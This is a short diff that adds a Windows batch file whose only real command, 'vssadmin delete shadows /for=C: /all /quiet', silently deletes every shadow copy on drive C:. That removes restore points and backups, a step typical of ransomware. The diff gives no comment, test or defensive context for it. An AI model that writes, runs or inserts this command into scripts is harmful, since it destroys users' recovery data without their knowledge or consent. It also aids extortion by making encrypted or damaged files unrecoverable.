@@ -1,0 +1,2 @@
+@echo off
+vssadmin delete shadows /for=C: /all /quiet
